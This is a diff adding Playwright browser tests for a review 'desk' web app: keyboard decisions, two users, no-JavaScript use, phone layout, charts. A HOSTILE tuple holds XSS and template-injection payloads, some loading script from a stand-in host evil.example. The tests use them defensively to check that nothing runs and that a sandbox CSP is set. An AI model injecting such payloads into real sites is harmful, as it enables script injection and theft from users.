@@ -1,0 +1,190 @@
+"""The desk in a real browser: decisions by keyboard alone, two people, no JavaScript, a phone, hostile words."""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
+
+from crawler.items import CompanyMention
+from desk.wiring import Wiring
+from tests.storage.building import figure, judged, page, reading, stored
+
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+HOSTILE = (
+    "<script>window.hit=1</script>",
+    "<img src=x onerror='window.hit=1'>",
+    '"><svg onload=window.hit=1>',
+    "</textarea></title><script src=//evil.example/x.js></script>",
+    "javascript:window.hit=1",
+    "{{ 7*7 }}${7*7}",
+    "' onmouseover='window.hit=1",
+    '<a href="javascript:window.hit=1" autofocus onfocus=window.hit=1>x</a>',
+    '<iframe srcdoc="<script>parent.hit=1</script>">',
+    "<div hx-get=//evil.example hx-trigger=load>x</div>",
+)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if path is None:
+        pytest.fail("no browser is installed: `apt-get install chromium`, then run the tests again", pytrace=False)
+    with sync_playwright() as playwright:
+        opened = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
+        yield opened
+        opened.close()
+
+
+@contextmanager
+def looking(browser: Browser, address: str, **options: Any) -> Iterator[Page]:
+    """A page of a person of their own, who is told of every error and every address that was asked."""
+    context: BrowserContext = browser.new_context(base_url=address, **options)
+    context.set_default_timeout(5000)
+    shown = context.new_page()
+    errors: list[str] = []
+    shown.on("pageerror", lambda error: errors.append(str(error)))
+    shown.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
+    shown.on(
+        "request",
+        lambda request: errors.append(request.url) if not request.url.startswith((address, "data:")) else None,
+    )
+    yield shown
+    context.close()
+    unexpected = [error for error in errors if "status of 409" not in error and "status of 422" not in error]
+    assert unexpected == []
+
+
+@pytest.fixture
+def twenty(wiring: Wiring) -> Wiring:
+    """Twenty more flags, each of an event of its own."""
+    for number in range(20):
+        told = figure(str(1_000_000 * (number + 1)), event=f"e{number}", round=f"R{number}", start=2, end=6)
+        read = reading(f"商汤{number}", told, title=f"第{number}条")
+        wiring.store.take_in(page(f"many-{number}"), read, stored(read, judged(told)))
+    return wiring
+
+
+def test_twenty_flags_by_keyboard_alone_and_undo(browser: Browser, served: str, twenty: Wiring) -> None:
+    with looking(browser, served) as desk:
+        desk.goto("/")
+        expect(desk.locator(".card.current")).to_have_count(1)
+        for number in range(20):
+            expect(desk.locator(".card.current[data-state=waiting]")).to_have_count(1)
+            id = desk.locator(".card.current").get_attribute("data-flag")
+            if number % 4 == 3:
+                desk.keyboard.press("r")
+                desk.keyboard.press("Enter")
+            else:
+                desk.keyboard.press("a")
+            expect(desk.locator(f"#flag-{id}")).not_to_have_attribute("data-state", "waiting")
+        counts = twenty.store.flags.counts()
+        assert (counts["accepted"], counts["rejected"], counts["waiting"]) == (15, 5, 3)
+        desk.keyboard.press("u")
+        expect(desk.locator(f"#flag-{id}")).to_have_attribute("data-state", "waiting")
+        assert twenty.store.flags.counts()["rejected"] == 4
+
+
+def test_the_other_keys(browser: Browser, served: str, wiring: Wiring) -> None:
+    with looking(browser, served) as desk:
+        desk.goto("/")
+        first = desk.locator(".card.current").get_attribute("data-flag")
+        desk.keyboard.press("j")
+        assert desk.locator(".card.current").get_attribute("data-flag") != first
+        desk.keyboard.press("k")
+        assert desk.locator(".card.current").get_attribute("data-flag") == first
+        desk.keyboard.press("?")
+        expect(desk.locator("#keys")).to_be_visible()
+        desk.keyboard.press("Escape")
+        desk.keyboard.press("e")
+        desk.keyboard.press("Control+a")
+        desk.keyboard.type("7e9")
+        desk.keyboard.press("Enter")
+        expect(desk.locator(f"#flag-{first} [role=alert]")).to_contain_text("above high")
+        assert wiring.store.flags.get(str(first)).state == "waiting"
+        desk.keyboard.press("/")
+        expect(desk.locator("#q")).to_be_focused()
+        desk.keyboard.type("裁员")
+        expect(desk.locator("#found tbody tr")).to_have_count(1)
+        assert "q=" in desk.url
+
+
+def test_the_second_of_two_people_is_told(browser: Browser, served: str, wiring: Wiring) -> None:
+    with looking(browser, served) as first, looking(browser, served) as second:
+        first.goto("/")
+        second.goto("/")
+        id = first.locator(".card.current").get_attribute("data-flag")
+        first.keyboard.press("a")
+        expect(first.locator(f"#flag-{id}")).to_have_attribute("data-state", "accepted")
+        second.keyboard.press("r")
+        second.keyboard.press("Enter")
+        expect(second.locator(f"#flag-{id} [role=alert]")).to_contain_text("lin")
+        assert wiring.store.flags.get(str(id)).state == "accepted"
+
+
+def test_without_javascript(browser: Browser, served: str, wiring: Wiring) -> None:
+    with looking(browser, served, java_script_enabled=False) as desk:
+        desk.goto("/")
+        card = desk.locator(".card").first
+        id = str(card.get_attribute("data-flag"))
+        card.locator("details.reject summary").click()
+        card.locator("select[name=reason]").select_option("old")
+        card.locator("details.reject button").click()
+        expect(desk.locator(".done")).to_contain_text("rejected by lin")
+        assert wiring.store.flags.get(id).cause == "old"
+        desk.locator(".done button").click()
+        assert wiring.store.flags.get(id).state == "waiting"
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_on_a_phone_nothing_is_wider_than_the_screen(browser: Browser, served: str, scheme: str) -> None:
+    options = {"viewport": {"width": 360, "height": 740}, "color_scheme": scheme, "locale": "zh-CN"}
+    with looking(browser, served, **options) as desk:
+        for path in ("/", "/companies/sensetime", "/articles", "/articles/1", "/figures", "/sources", "/add"):
+            desk.goto(path)
+            assert desk.evaluate("document.documentElement.scrollWidth") <= 360, path
+        assert desk.evaluate("getComputedStyle(document.body).backgroundColor") == (
+            "rgb(24, 22, 20)" if scheme == "dark" else "rgb(251, 250, 247)"
+        )
+
+
+def test_charts_are_drawn(browser: Browser, served: str) -> None:
+    with looking(browser, served) as desk:
+        desk.goto("/companies/sensetime?currency=CNY")
+        expect(desk.locator(".uplot canvas")).to_have_count(4)
+
+
+def test_hostile_words_run_nothing_and_load_nothing(browser: Browser, served: str, wiring: Wiring) -> None:
+    for number, words in enumerate(HOSTILE):
+        told = figure(event=f"h{number}", quote=words, written="", round=words, start=0, end=0)
+        read = reading(words, told, title=words, outlet=words, author=words, origin=words)
+        read = replace(read, companies=(CompanyMention("sensetime", 1, True),))
+        kept = page(
+            f"hostile-{number}", outlet=words, body=f"<html>{words}<p>x</p></html>".encode(), content_type="text/html"
+        )
+        kept = replace(kept, archived=wiring.archive.keep(kept))
+        wiring.store.take_in(kept, read, stored(read, judged(told)))
+    articles = [row.id for row in wiring.store.articles.find(limit=100)]
+    with looking(browser, served) as desk:
+        for path in (
+            "/",
+            "/stories",
+            "/articles",
+            "/figures",
+            "/companies/sensetime",
+            *(f"/articles/{id}" for id in articles),
+        ):
+            desk.goto(path)
+            assert desk.evaluate("window.hit") is None, path
+    with looking(browser, served, java_script_enabled=True) as sealed:
+        sealed.on("pageerror", lambda error: None)
+        for id in articles[-3:]:
+            answer = sealed.request.get(f"/articles/{id}/page")
+            assert answer.headers.get("content-security-policy", "sandbox").startswith(
+                ("sandbox", "default-src 'none'")
+            )
